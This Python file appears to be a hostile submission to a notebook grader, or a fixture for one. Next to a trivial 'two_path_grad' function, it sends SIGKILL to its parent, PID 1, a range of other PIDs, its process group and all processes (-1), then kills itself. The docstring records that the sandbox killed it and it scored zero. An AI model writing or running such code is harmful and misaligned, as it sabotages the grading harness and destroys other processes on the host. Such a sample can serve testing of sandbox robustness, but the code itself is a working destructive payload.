"""Kills its parent, process 1, its group, and every process there is.

Earns: two_path_grad 0
Told: Cell 3: The process was killed by SIGKILL.
Because: there is nobody in its reach but itself.
"""

# %% two_path_grad_answer
import os
import signal

for pid in (os.getppid(), 1, *range(2, 400)):
    if pid != os.getpid() and pid > 0:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
for pid in (0, -1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass


def two_path_grad(x, w):
    return w + 1, x + 2 * w + 1


os.kill(os.getpid(), signal.SIGKILL)
